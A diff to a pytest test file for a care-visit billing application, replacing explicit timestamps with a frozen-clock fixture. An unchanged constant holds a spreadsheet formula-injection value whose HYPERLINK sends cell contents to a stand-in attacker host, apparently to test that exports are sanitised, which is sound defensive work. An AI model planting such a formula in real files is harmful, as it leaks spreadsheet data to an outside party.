@@ -2,19 +2,25 @@
 
 import csv
 import re
-from datetime import UTC, date, datetime
+from datetime import UTC, date, datetime, timedelta
 
 import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from carecal import db
+from carecal import clock, db
 from carecal.billing import audiences, invoicing, records
 from carecal.weeks import IsoWeek
 from tests import factories as f
 
 AFTER = datetime(2026, 12, 15, tzinfo=UTC)
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
+
+
+@pytest.fixture(autouse=True)
+def after_the_visits():
+    with clock.frozen(AFTER, tick=timedelta(microseconds=1)):
+        yield
 
 
 @pytest.fixture
@@ -41,10 +47,9 @@ def month(db_url):
             activity=f.activity(s, "reading", {"de": "Vorlesen aus der Zeitung"}).key,
             signature="none",
             signature_reason="Klientin schlief",
-            now=AFTER,
         )
         for week in ("2026-W45", "2026-W46"):
-            records.confirm_week(s, IsoWeek.parse(week), "anna", now=AFTER)
+            records.confirm_week(s, IsoWeek.parse(week), "anna")
         invoicing.run_month(s, "2026-11", "treasurer", issued_on=date(2026, 12, 1))
         return {"olga": olga.external_id, "evil": evil.external_id, "visits": [first.id, second.id, third.id]}
 
@@ -176,9 +181,10 @@ def test_allowances_warn_near_and_over_the_tax_free_limit(cli, db_url, tmp_path)
         f.rate(s, org, "tax_free_limit_year", 4000, date(2030, 1, 1), key="3_26")  # a tiny limit, to reach it
         busy, calm = f.volunteer(s, last_name="Fleißig"), f.volunteer(s, last_name="Ruhig")
         request = f.care_request(s, f.client(s), windows=(("mon", "08:00", "20:00"),))
-        for week, volunteer in (("2030-W02", busy), ("2030-W03", busy), ("2030-W04", calm)):
-            visit = f.published_visit(s, week, request, volunteer, day="mon")
-            records.record_visit(s, visit.id, "anna", status="delivered", now=datetime(2030, 12, 1, tzinfo=UTC))
+        with clock.frozen(datetime(2030, 12, 1, tzinfo=UTC)):
+            for week, volunteer in (("2030-W02", busy), ("2030-W03", busy), ("2030-W04", calm)):
+                visit = f.published_visit(s, week, request, volunteer, day="mon")
+                records.record_visit(s, visit.id, "anna", status="delivered")
         ids = busy.external_id, calm.external_id
     result = cli("export", "allowances", "--year", "2030", "-o", tmp_path / "a.csv")
     assert result.exit_code == 0, result.stderr
